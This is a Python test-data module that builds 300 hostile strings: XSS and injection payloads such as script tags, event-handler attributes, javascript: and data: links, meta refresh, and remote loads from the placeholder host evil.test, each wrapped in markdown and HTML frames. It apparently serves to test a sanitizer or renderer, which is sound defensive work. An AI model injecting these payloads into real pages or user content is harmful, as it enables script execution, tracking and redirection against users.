"""Three hundred texts that try to make the page load something, run something or lead away."""

from __future__ import annotations

from itertools import product

__all__ = ["hostile_texts"]

HOST = "//evil.test"
_RUN = "window.hacked=1"
_PAYLOADS = (
    f"<script>{_RUN}</script>",
    f"<script src={HOST}/x.js></script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src={HOST}/p.png>",
    f"<svg onload={_RUN}>",
    f"<svg><image href='{HOST}/p.svg'/><script>{_RUN}</script></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<iframe src={HOST}></iframe>",
    f"<object data={HOST}></object><embed src={HOST}>",
    f"<link rel=stylesheet href={HOST}/s.css>",
    f"<style>@import '{HOST}/s.css'; * {{background: url({HOST}/b.png)}}</style>",
    f"<meta http-equiv=refresh content='0;url={HOST}'>",
    f"<base href={HOST}/>",
    f"<form action={HOST}><input autofocus onfocus={_RUN}></form>",
    f"<details open ontoggle={_RUN}>",
    f"<video src={HOST}/v.mp4 autoplay onerror={_RUN}></video>",
    f"![a]({HOST}/p.png)",
    "![a](http:" + HOST + "/p.png 'title')",
    f"[a](javascript:{_RUN})",
    f"[a]( jAvA\tscript:{_RUN})",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"![][r]\n\n[r]: http:{HOST}/p.png",
    f"<http:{HOST}/auto> http:{HOST}/bare",
    f"[^1]\n\n[^1]: <img src={HOST}/f.png>",
    f"$$\\includegraphics{{http:{HOST}/m.png}}$$ \\(\\href{{javascript:{_RUN}}}{{x}}\\)",
    f"`<img src={HOST}/c.png>` and ```\n<script>{_RUN}</script>\n```",
    f"&lt;img src={HOST}/e.png&gt; &#60;script&#62;{_RUN}&#60;/script&#62;",
    f"</details></article></section></body><script>{_RUN}</script>",
    f"\u202e<\u200bscript>{_RUN}</script>\ufeff",
    f"{{{{constructor.constructor('{_RUN}')()}}}} ${{{_RUN}}} `+{_RUN}+`",
)
_FRAMES = (
    "{}",
    "An answer [1] with **{}** inside. [1]",
    "> {}\n\n- {}\n- x",
    "| a | b |\n|---|---|\n| {} | [1] |",
    "# {}",
    "```html\n{}\n```",
    '" onmouseover=window.hacked=1 x="{}',
    "'><b>{}</b>",
    "]({}) ![",
    "<!-- {} --><![CDATA[ {} ]]>",
)


def hostile_texts() -> list[str]:
    """Every payload in every frame: 300."""
    return [frame.replace("{}", payload) for payload, frame in product(_PAYLOADS, _FRAMES)]
